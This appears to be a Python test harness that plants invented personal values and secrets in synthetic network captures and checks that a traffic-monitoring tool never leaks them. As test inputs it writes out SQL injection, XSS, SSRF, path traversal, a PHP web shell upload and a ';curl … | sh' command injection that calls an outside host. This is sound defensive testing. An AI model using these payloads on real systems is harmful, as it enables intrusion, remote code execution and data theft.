#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Ten thousand invented personal values and secrets go through the whole program by every way there is into it; none comes out.

Values: resident ids, mobiles, bank cards, e-mails, passports, passwords, tokens, keys. Ways in: bodies of all formats and codings, queries,
paths, headers, cookies, agents, names of hosts, SQL, GraphQL, attacks that carry them, keys of objects, DNS, other protocols. What is searched: every
sink, the spool, the state folder, the report, metrics, standard output and error. As they are, and in base64, hex and URL coding.

usage: planted.py TAPSCOPE [COUNT [FOLDER]]      FOLDER keeps what was made
"""
import base64
import collections
import gzip
import json
import pathlib
import random
import re
import struct
import subprocess
import sys
import tempfile
import urllib.parse

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "pcaps"))
from wire import Capture, Tcp, request, response  # noqa: E402

T0 = 1795000000 * 10**9
HOST = "api.bank.example"
rnd = random.Random(20)
KEY = 10  # bytes of a form by which it is looked for first


# -- values -------------------------------------------------------------------------------------------------------------------

def digits(n):
    return "".join(rnd.choice("0123456789") for _ in range(n))


def letters(n, alphabet="ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789"):
    return "".join(rnd.choice(alphabet) for _ in range(n))


def id_card():
    body = rnd.choice(["110101", "310115", "440305", "510107", "330106"]) + "%d%02d%02d" % (rnd.randint(1955, 2004), rnd.randint(1, 12), rnd.randint(1, 28)) + digits(3)
    return body + "10X98765432"[sum(int(c) * w for c, w in zip(body, (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2))) % 11]


def mobile():
    return rnd.choice(["138", "139", "150", "186", "177", "199"]) + digits(8)


def bank_card():
    body = rnd.choice(["622202", "621700", "622848", "621226"]) + digits(12)
    total = sum(sum(divmod(int(c) * (1 + (i % 2 == 0)), 10)) for i, c in enumerate(reversed(body)))
    return body + str(-total % 10)


def email():
    return letters(9, "abcdefghijklmnopqrstuvwxyz") + "." + letters(4, "abcdefghijklmnopqrstuvwxyz") + "@" + rnd.choice(["qq.com", "163.com", "gmail.com"])


def password():
    return letters(11) + rnd.choice("!_-.") + digits(2)


def jwt():
    part = lambda d: base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")
    return part({"alg": "HS256", "typ": "JWT"}) + "." + part({"sub": letters(12), "n": digits(6)}) + "." + letters(43)


KINDS = {"id_card": id_card, "mobile": mobile, "bank_card": bank_card, "email": email}
KEYS = {"id_card": "idCard", "mobile": "mobile", "bank_card": "bankCardNo", "email": "email"}
SECRETS = {"password": password, "token": lambda: letters(40), "jwt": jwt, "aws": lambda: "AKIA" + letters(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
           "github": lambda: "ghp_" + letters(36)}
SECRET_KEYS = {"password": "password", "token": "accessToken", "jwt": "id_token", "aws": "accessKeyId", "github": "token"}


# -- ways in: (key, value) to (request, response), or a function of its own on the capture ------------------------------------------

def ok(body=b'{"code":0}', kind="application/json", headers=(), **more):
    return response(200, kind, body, headers, **more)


def js(key, value):
    return json.dumps({"code": 0, "data": {"rows": [{key: value, "n": 1}]}}).encode()


JSON = [("Content-Type", "application/json")]
FORM = [("Content-Type", "application/x-www-form-urlencoded")]
q = urllib.parse.quote

COMMON = {  # for personal values and for secrets under their key
    "json request": lambda k, v: (request("POST", "/p/json", HOST, JSON, js(k, v)), ok()),
    "json response": lambda k, v: (request("GET", "/p/json", HOST), ok(js(k, v))),
    "escaped json": lambda k, v: (request("POST", "/p/esc", HOST, JSON, b'{"%s":"%s"}' % (k.encode(), b"".join(b"\\u%04x" % b for b in v.encode()))), ok()),
    "json in json": lambda k, v: (request("POST", "/p/nested", HOST, JSON, json.dumps({"payload": json.dumps({k: v})}).encode()), ok()),
    "gzip": lambda k, v: (request("GET", "/p/gz", HOST), ok(gzip.compress(js(k, v), mtime=0), headers=[("Content-Encoding", "gzip")])),
    "chunked": lambda k, v: (request("GET", "/p/chunked", HOST), ok(js(k, v), chunked=7)),
    "form": lambda k, v: (request("POST", "/p/form", HOST, FORM, f"a=1&{k}={q(v)}&b=2".encode()), ok()),
    "query": lambda k, v: (request("GET", f"/p/q?page=1&{k}={q(v)}&x=2", HOST), ok()),
    "percent query": lambda k, v: (request("GET", f"/p/q?{k}=" + "".join("%%%02X" % b for b in v.encode()), HOST), ok()),
    "absolute target": lambda k, v: (request("GET", f"http://{HOST}/p/abs?{k}={q(v)}", HOST), ok()),
    "matrix": lambda k, v: (request("GET", f"/p/m;{k}={q(v)}/x", HOST), ok()),
    "referer": lambda k, v: (request("GET", "/p/r", HOST, [("Referer", f"https://{HOST}/page?{k}={q(v)}")]), ok()),
    "location": lambda k, v: (request("GET", "/p/l", HOST), response(302, "text/html", b"", [("Location", f"/next?{k}={q(v)}#x")])),
    "header": lambda k, v: (request("GET", "/p/h", HOST, [(f"X-{k}", v)]), ok(headers=[(f"X-Resp-{k}", v)])),
    "cookie": lambda k, v: (request("GET", "/p/c", HOST, [("Cookie", f"lang=zh; {k}={q(v)}")]), ok(headers=[("Set-Cookie", f"{k}={q(v)}; Path=/")])),
    "multipart": lambda k, v: (request("POST", "/p/mp", HOST, [("Content-Type", "multipart/form-data; boundary=bb")],
                               f'--bb\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n--bb--\r\n'.encode()), ok()),
    "xml": lambda k, v: (request("POST", "/p/xml", HOST, [("Content-Type", "text/xml")], f"<r><a><{k}>{v}</{k}></a></r>".encode()), ok()),
    "soap response": lambda k, v: (request("POST", "/p/soap", HOST, [("Content-Type", "text/xml"), ("SOAPAction", '"getUser"')], b"<x/>"),
                                   ok(f'<soap:Envelope xmlns:soap="urn:x"><soap:Body><u><{k}>{v}</{k}></u></soap:Body></soap:Envelope>'.encode(), "text/xml")),
    "base64 query": lambda k, v: (request("GET", "/p/b64?d=" + q(base64.b64encode(js(k, v)).decode()), HOST), ok()),
    "graphql literal": lambda k, v: (request("POST", "/graphql", HOST, JSON, json.dumps({"query": f'query Q {{ user({k}: "{v}") {{ id }} }}'}).encode()), ok()),
    "graphql query string": lambda k, v: (request("GET", "/graphql?query=" + q(f'{{user({k}:"{v}"){{id}}}}'), HOST), ok()),
    "graphql variables": lambda k, v: (request("POST", "/graphql", HOST, JSON, json.dumps({"query": f"query Q(${k}:String){{user({k}:${k}){{id}}}}", "variables": {k: v}}).encode()), ok()),
    "json-rpc": lambda k, v: (request("POST", "/rpc", HOST, JSON, json.dumps({"jsonrpc": "2.0", "id": 1, "method": "user.get", "params": {k: v}}).encode()), ok()),
    "sql injection": lambda k, v: (request("GET", "/p/sql?id=" + q(f"1' OR {k}='{v}' UNION SELECT 1,2,3 -- "), HOST), ok()),
    "sql in body": lambda k, v: (request("POST", "/p/sql", HOST, JSON, json.dumps({"id": f"1' UNION SELECT {k} FROM u WHERE {k}='{v}' -- "}).encode()), ok()),
    "command injection": lambda k, v: (request("GET", "/p/cmd?h=" + q(f";curl http://203.0.113.9/?{k}={v}|sh"), HOST), ok()),
    "xss": lambda k, v: (request("GET", "/p/x?m=" + q(f"<script>alert('{k}={v}')</script>"), HOST), ok()),
    "ssrf": lambda k, v: (request("GET", "/p/fetch?url=" + q(f"http://169.254.169.254/latest/?{k}={v}", safe=""), HOST), ok()),
    "traversal": lambda k, v: (request("GET", f"/p/dl?f=../../../../etc/{k}={q(v)}/passwd", HOST), ok()),
    "stack trace": lambda k, v: (request("GET", "/p/err", HOST), response(500, "text/plain", f"java.sql.SQLException: bad value {k}={v}\n\tat com.bank.Dao.get(Dao.java:7)\n".encode())),
    "error sql": lambda k, v: (request("GET", "/p/err", HOST), response(500, "application/json", json.dumps({"error": f"You have an error in your SQL syntax near '{k}=\"{v}\"' at line 1"}).encode())),
    "html": lambda k, v: (request("GET", "/p/page", HOST), ok(f"<html><p>{k}: {v}</p></html>".encode(), "text/html")),
    "csv": lambda k, v: (request("GET", "/p/export.csv", HOST), ok(f"id,{k}\n1,{v}\n2,{v}\n".encode(), "text/csv")),
    "cut body": lambda k, v: (request("POST", "/p/cut", HOST, JSON, js(k, v)), b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n" + js(k, v)),
}
PERSONAL = {  # recognised by themselves wherever they stand
    "path": lambda k, v: (request("GET", f"/p/users/{q(v)}/orders", HOST), ok()),
    "path end": lambda k, v: (request("DELETE", f"/p/{k}/{q(v)}", HOST), ok()),
    "path, unknown": lambda k, v: (request("GET", f"/p/{k}/{q(v)}", HOST), response(404, "text/plain", b"no")),
    "agent": lambda k, v: (request("GET", "/p/ua", HOST, [("User-Agent", f"BankApp/3.1 (uid {v}; Android 14)")]), ok()),
    "plain header": lambda k, v: (request("GET", "/p/h", HOST, [("X-Operator", v), ("X-Remark", f"call {v} back")]), ok(headers=[("X-Owner", f"u={v}")])),
    "request id": lambda k, v: (request("GET", "/p/rid", HOST, [("X-Request-Id", v)]), ok()),
    "any query key": lambda k, v: (request("GET", f"/p/any?u={q(v)}", HOST), ok()),
    "query without key": lambda k, v: (request("GET", f"/p/bare?{q(v)}", HOST), ok()),
    "object key": lambda k, v: (request("GET", "/p/map", HOST), ok(json.dumps({"users": {v: {"balance": 3, "mobile": mobile_other()}}}).encode())),
    "query key": lambda k, v: (request("GET", f"/p/qk?{q(v)}=1&{q(v)}[name]=2", HOST), ok()),
    "form key": lambda k, v: (request("POST", "/p/fk", HOST, FORM, f"{q(v)}=1&u[{q(v)}]={mobile_other()}".encode()), ok()),
    "xml attribute": lambda k, v: (request("POST", "/p/xa", HOST, [("Content-Type", "application/xml")], f'<r><u id="{v}">1</u></r>'.encode()), ok()),
    "file name": lambda k, v: (request("POST", "/p/up", HOST, [("Content-Type", "multipart/form-data; boundary=bb")],
                               f'--bb\r\nContent-Disposition: form-data; name="f"; filename="{v}.png"\r\nContent-Type: image/png\r\n\r\nx\r\n--bb--\r\n'.encode()), ok()),
    "web shell name": lambda k, v: (request("POST", "/p/up", HOST, [("Content-Type", "multipart/form-data; boundary=bb")],
                                    f'--bb\r\nContent-Disposition: form-data; name="f"; filename="{v}.php"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET[1]);?>\r\n--bb--\r\n'.encode()), ok()),
    "download name": lambda k, v: (request("GET", "/p/dl", HOST), ok(b"x", "application/pdf", [("Content-Disposition", f'attachment; filename="{v}.pdf"')])),
    "login": lambda k, v: (request("POST", "/p/login", HOST, JSON, json.dumps({"username": v, "password": password_other()}).encode()), response(401, "application/json", b'{"code":401,"msg":"bad password"}')),
    "basic": lambda k, v: (request("GET", "/p/basic", HOST, [("Authorization", "Basic " + base64.b64encode(f"{v}:x{v}".encode()).decode())]), ok()),
    "host": lambda k, v: (request("GET", "/p/host", f"{re.sub('[^0-9A-Za-z]', '', v)}.u.bank.example"), ok()),
    "user in url": lambda k, v: (request("GET", "/p/ref", HOST, [("Referer", f"https://{q(v)}:pw@{HOST}/")]), ok()),
    "digest": lambda k, v: (request("GET", "/p/dig", HOST, [("Authorization", f'Digest username="{v}", realm="r", nonce="n", uri="/", response="{"0" * 32}"')]), ok()),
    "unknown protocol": lambda k, v: (b"\x01\x02%s\r\n\x00" % v.encode() * 3, b"\x05" + v.encode()),
    "odd method": lambda k, v: (f"GET /p/odd HTTP/1.1\r\nHost: {HOST}\r\nX {v}: 1\r\n: {v}\r\n\r\n".encode(), ok()),
    "reason phrase": lambda k, v: (request("GET", "/p/reason", HOST), f"HTTP/1.1 400 bad {v}\r\nContent-Length: 0\r\n\r\n".encode()),
    "redis": lambda k, v: (b"*3\r\n$3\r\nSET\r\n$%d\r\nuser:%s\r\n$%d\r\n%s\r\n" % (len(v) + 5, v.encode(), len(v), v.encode()), b"+OK\r\n"),
    "redis error": lambda k, v: (b"*2\r\n$4\r\nHGET\r\n$%d\r\n%s\r\n" % (len(v), v.encode()), b"-ERR no such key %s\r\n" % v.encode()),
}
SECRET_ONLY = {
    "bearer": lambda k, v: (request("GET", "/s/b", HOST, [("Authorization", f"Bearer {v}")]), ok()),
    "basic password": lambda k, v: (request("GET", "/s/basic", HOST, [("Authorization", "Basic " + base64.b64encode(b"svc:" + v.encode()).decode())]), ok()),
    "proxy": lambda k, v: (request("GET", "/s/p", HOST, [("Proxy-Authorization", f"Bearer {v}"), ("X-Api-Key", v), ("X-Auth-Token", v)]), ok()),
    "set-cookie": lambda k, v: (request("GET", "/s/c", HOST, [("Cookie", f"SESSION={v}; sid={v}")]), ok(headers=[("Set-Cookie", f"JSESSIONID={v}; HttpOnly")])),
    "redis auth": lambda k, v: (b"*2\r\n$4\r\nAUTH\r\n$%d\r\n%s\r\n" % (len(v), v.encode()), b"-WRONGPASS invalid\r\n"),
    "url password": lambda k, v: (request("POST", "/s/u", HOST, JSON, json.dumps({"dsn": f"mysql://root:{v}@10.0.0.9:3306/bank"}).encode()), ok()),
    "header url": lambda k, v: (request("GET", "/s/r", HOST, [("Referer", f"https://u:{v}@{HOST}/x?access_token={v}#token={v}")]), ok()),
    "xml password": lambda k, v: (request("POST", "/s/wsse", HOST, [("Content-Type", "text/xml")],
                                  f"<s:Envelope xmlns:s='x'><s:Header><wsse:Password>{v}</wsse:Password></s:Header></s:Envelope>".encode()), ok()),
}


def mobile_other():
    return mobile()


def password_other():
    return password()


# -- other protocols ----------------------------------------------------------------------------------------------------------

def mysql(cap, ns, client, k, v):
    tcp = Tcp(cap, ns, client, 40000, "10.9.0.7", 3306)
    packet = lambda n, data: len(data).to_bytes(3, "little") + bytes([n]) + data
    tcp.send(1, packet(0, b"\x0a8.0.33\0" + struct.pack("<I", 9) + b"abcdefgh\0" + b"\xff\xff\x21\x02\x00\xff\xff\x15" + bytes(10) + b"ijklmnopqrst\0mysql_native_password\0"))
    tcp.send(0, packet(1, struct.pack("<IIB23x", 0xA685, 1 << 24, 33) + b"root\0\x14" + bytes(20) + b"bank\0mysql_native_password\0"))
    tcp.send(1, packet(2, b"\0\0\0\x02\0\0\0"))
    tcp.send(0, packet(0, f"\x03SELECT * FROM users WHERE {k}='{v}' AND n=1".encode()))
    tcp.send(1, packet(1, b"\xff\x28\x04#42000error near '" + v.encode() + b"'"))
    tcp.close()


def mysql_rows(cap, ns, client, k, v):
    """As a row, a parameter, a computed column's name, in a comment, in what a key refuses, in a file."""
    raw = v.encode()
    tcp = Tcp(cap, ns, client, 40010, "10.9.0.7", 3306)
    packet = lambda n, data: len(data).to_bytes(3, "little") + bytes([n]) + data
    text = lambda b: bytes([len(b)]) + b
    column = lambda n, shown, name: packet(n, b"\3def\4bank\1u\5users" + text(shown[:60]) + text(name) + b"\x0c\x2d\0\xff\0\0\0\xfd\0\0\0\0\0")
    end = lambda n: packet(n, b"\xfe\0\0\2\0")
    tcp.send(0, packet(0, b"\3/* " + raw + b" */ SELECT '" + raw + b"', " + k.encode() + b" FROM users -- " + raw))
    tcp.send(1, packet(1, b"\2") + column(2, raw, b"") + column(3, k.encode(), k.encode()) + end(4) + packet(5, text(raw) * 2) + end(6))
    tcp.send(0, packet(0, b"\x16INSERT INTO users (" + k.encode() + b") VALUES (?)"))
    tcp.send(1, packet(1, b"\0\1\0\0\0\0\0\1\0\0\0\0") + column(2, b"?", b"") + end(3))
    tcp.send(0, packet(0, b"\x17\1\0\0\0\0\1\0\0\0\0\1\xfd\0" + text(raw)))
    tcp.send(1, packet(1, b"\xff\x26\x04#23000Duplicate entry '" + raw + b"' for key 'users." + k.encode() + b"'"))
    tcp.send(0, packet(0, b"\3LOAD DATA LOCAL INFILE 'x' INTO TABLE users"))
    tcp.send(1, packet(1, b"\xfbx"))
    tcp.send(0, packet(2, b"1\t" + raw + b"\n") + packet(3, b""))
    tcp.send(1, packet(4, b"\0\1\0\2\0\0\0"))
    tcp.send(0, packet(0, b"\3SELECT * FROM users WHERE pin=" + raw))
    tcp.send(1, packet(1, b"\xff\x1e\x04#42S22Unknown column '" + raw + b"' in 'where clause'"))
    tcp.close()


def postgresql(cap, ns, client, k, v):
    raw, key = v.encode(), k.encode()
    tcp = Tcp(cap, ns, client, 40020, "10.9.0.6", 5432)
    message = lambda kind, data=b"": kind + struct.pack("!I", len(data) + 4) + data
    cell = struct.pack("!I", len(raw)) + raw
    row = message(b"T", struct.pack("!H", 1) + key + b"\0" + struct.pack("!IHIHIH", 1, 1, 25, 65535, 0, 0)) + message(b"D", struct.pack("!H", 1) + cell)
    ready = message(b"Z", b"I")
    tcp.send(0, struct.pack("!II", 21 + 8, 3 << 16) + b"user\0app\0database\0b\0\0"[:21])
    tcp.send(1, message(b"R", struct.pack("!I", 0)) + ready)
    tcp.send(0, message(b"Q", b"/* " + raw + b" */ SELECT * FROM users WHERE " + key + b" = '" + raw + b"'; SELECT $x$" + raw + b"$x$\0"))
    tcp.send(1, row + message(b"C", b"SELECT 1\0") + row + message(b"C", b"SELECT 1\0") + ready)
    tcp.send(0, message(b"P", b"\0INSERT INTO users (" + key + b") VALUES ($1)\0\0\0") + message(b"B", b"\0\0\0\0\0\1" + cell + b"\0\0") + message(b"E", b"\0\0\0\0\0") + message(b"S"))
    tcp.send(1, message(b"1") + message(b"2") + message(b"E", b"SERROR\0C23505\0Mduplicate key value violates unique constraint \"u\"\0DKey (" + key + b")=(" + raw + b") already exists.\0\0") + ready)
    tcp.send(0, message(b"Q", b"SELECT " + raw + b" FROM users\0"))
    tcp.send(1, message(b"E", b"SERROR\0C42703\0Mcolumn \"" + raw + b"\" does not exist\0\0") + ready)
    tcp.send(0, message(b"Q", b"COPY users FROM STDIN\0"))
    tcp.send(1, message(b"G", b"\0\0\0"))
    tcp.send(0, message(b"d", raw + b"\t1\n") + message(b"c"))
    tcp.send(1, message(b"C", b"COPY 1\0") + ready)
    tcp.close()


def dns(cap, ns, client, k, v):
    label = re.sub("[^0-9A-Za-z]", "", v)[:60].encode()
    name = bytes([len(label)]) + label + b"\x01u\x04bank\x07example\0"
    cap.udp(ns, client, 41000, "10.9.0.53", 53, struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\0\1\0\1")
    cap.udp(ns + 1000, "10.9.0.53", 53, client, 41000, struct.pack("!HHHHHH", 7, 0x8180, 1, 1, 0, 0) + name + b"\0\1\0\1" + b"\xc0\x0c\0\x10\0\1\0\0\0\x3c" +
            struct.pack("!HB", len(v) + 1, len(v)) + v.encode())


def tls(cap, ns, client, k, v):
    name = re.sub("[^0-9A-Za-z]", "", v)[:60].encode() + b".u.bank.example"
    sni = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    hello = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0" + struct.pack("!H", len(sni)) + sni
    hello = b"\x01" + len(hello).to_bytes(3, "big") + hello
    tcp = Tcp(cap, ns, client, 42000, "10.9.0.8", 443)
    tcp.send(0, b"\x16\x03\x01" + struct.pack("!H", len(hello)) + hello)
    tcp.close()


def websocket(cap, ns, client, k, v):
    tcp = Tcp(cap, ns, client, 43000, "10.9.0.1", 8080)
    tcp.send(0, request("GET", "/ws", HOST, [("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")]))
    tcp.send(1, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
    body = json.dumps({"type": "chat", k: v}).encode()
    tcp.send(0, b"\x81" + bytes([0x80 | len(body)]) + b"\0\0\0\0" + body if len(body) < 126 else b"\x81\xfe" + struct.pack("!H", len(body)) + b"\0\0\0\0" + body)
    tcp.send(1, b"\x81" + (bytes([len(body)]) if len(body) < 126 else b"\x7e" + struct.pack("!H", len(body))) + body)
    tcp.close()


WIRE = {"mysql": mysql, "mysql rows": mysql_rows, "postgresql": postgresql, "dns": dns, "tls": tls, "websocket": websocket}


def plant(count):
    """The capture, and {value: way}."""
    cap, planted = Capture(), {}
    personal = list(COMMON.items()) + list(PERSONAL.items()) + list(WIRE.items())
    secret = list(COMMON.items()) + list(SECRET_ONLY.items())
    number = 0
    while len(planted) < count:
        which = number % 3
        ways, kinds, keys = (secret, SECRETS, SECRET_KEYS) if which == 2 else (personal, KINDS, KEYS)
        kind = list(kinds)[(number // 3) // len(ways) % len(kinds)] if number < 3 * len(ways) * len(kinds) else rnd.choice(list(kinds))
        name, way = ways[number // 3 % len(ways)]
        value = kinds[kind]()
        ns, client = T0 + number * 20_000_000, "10.%d.%d.%d" % (4 + number // 60000, number // 240 % 250, number % 240 + 1)
        if name in WIRE:
            way(cap, ns, client, keys[kind], value)
        else:
            tcp = Tcp(cap, ns, client, 20000 + number % 40000, "10.9.0.1", 8080)
            ask, answer = way(keys[kind], value)
            tcp.send(0, ask)
            tcp.send(1, answer)
            tcp.close()
        planted[value] = f"{kind} in {name}"
        number += 1
    return cap, planted


# -- search -------------------------------------------------------------------------------------------------------------------

def forms(value):
    raw = value.encode()
    yield raw
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        for shift in range(3):
            yield encode(b"\0" * shift + raw + b"\0" * (-(len(raw) + shift) % 3))[(0, 2, 3)[shift]:len(raw) * 4 // 3 - 2]
    yield raw.hex().encode()
    yield raw.hex().upper().encode()
    yield urllib.parse.quote(value, safe="").encode()
    yield urllib.parse.quote(value).encode()
    yield b"".join(b"%%%02X" % b for b in raw)
    yield b"".join(b"\\u%04x" % b for b in raw)
    if "." not in value and "@" not in value:
        yield raw[::-1]


def index(planted):
    heads = collections.defaultdict(list)
    for value in planted:
        for form in set(forms(value)):
            if len(form) >= KEY:
                heads[form[:KEY]].append((form, value))
    return heads


def search(data, heads):
    for at in range(len(data) - KEY + 1):
        for form, value in heads.get(data[at:at + KEY], ()):
            if data.startswith(form, at):
                yield at, form, value


def ask(program, out):
    """What the commands say of the state folder and of findings, into files that are searched as well."""
    state, keep = out / "state", out / "said"
    keep.mkdir()
    (out / "openapi").mkdir()
    asks = {"data-map": ["data-map"], "data-map-json": ["data-map", "--format", "json"], "assets": ["assets", "--format", "table"],
            "assets-json": ["assets", "--format", "json"], "assets-csv": ["assets", "--format", "csv"], "openapi": ["openapi"],
            "openapi-folder": ["openapi", out / "openapi"]}
    finding = next((json.loads(x)["event"]["id"] for x in open(out / "events.jsonl", encoding="utf-8") if '"tapscope.finding"' in x), None)
    if finding:
        asks["explain"] = ["explain", finding, "--from", out / "events.jsonl"]
    for name, args in asks.items():
        more = [] if name == "explain" else ["--state", state]
        run = subprocess.run([program, *args, *more], capture_output=True, timeout=900, check=False)
        (keep / name).write_bytes(run.stdout + run.stderr)
        if run.returncode:
            sys.exit(f"{name}: exit {run.returncode}: {run.stderr[-500:]}")


def main():
    program = sys.argv[1]
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 10000
    with tempfile.TemporaryDirectory() as name:
        tmp = pathlib.Path(sys.argv[3] if len(sys.argv) > 3 else name)
        tmp.mkdir(exist_ok=True)
        cap, planted = plant(count)
        cap.write(tmp / "planted.pcap")
        out = tmp / "out"
        out.mkdir()
        run = subprocess.run([program, "replay", "-v", "--progress=plain", "--workers", "2", "--state", out / "state", "--report", out / "report.html",
                              "--set", f"sensor.metrics_file={out}/metrics.prom", "--set", "sensor.metrics_interval=1s", "--set", "sensor.interval=10s", "-o", f"file:{out}/events.jsonl", "-o", "stdout:?kinds=finding",
                              "-o", "kafka:127.0.0.1:9", tmp / "planted.pcap"], capture_output=True, timeout=1500, check=False)
        if run.returncode not in (0, 3):
            sys.exit(f"exit {run.returncode}: {run.stderr[-500:]}")
        (out / "stdout").write_bytes(run.stdout)
        (out / "stderr").write_bytes(run.stderr)
        ask(program, out)
        heads, found, total, lines = index(planted), collections.Counter(), 0, set()
        example = {}
        for path in sorted(p for p in out.rglob("*") if p.is_file()):
            data = path.read_bytes()
            total += len(data)
            if path.suffix in (".jsonl", ".seg") or path.name == "stdout":  # a line is searched once, wherever else it goes
                parts = set(re.findall(rb"\{[^\n]*\}", data)) - lines
                lines |= parts
                data = b"\n".join(sorted(parts))
            for at, form, value in search(data, heads):
                what = f"{planted[value]}: {path.name}"
                found[what] += 1
                example.setdefault(what, data[max(0, at - 60):at + len(form) + 20])
        print(f"planted: {len(planted)} values by {len(COMMON) + len(PERSONAL) + len(WIRE) + len(SECRET_ONLY)} ways, {total / 1e6:.0f} MB of output searched")
        for what, n in sorted(found.items()):
            print(f"LEAK {n} x {what}: …{example[what].decode('utf-8', 'replace')}…")
        if found:
            sys.exit(f"planted: {sum(found.values())} leaks of {len(found)} sorts")
    print("planted: none comes out")


main()
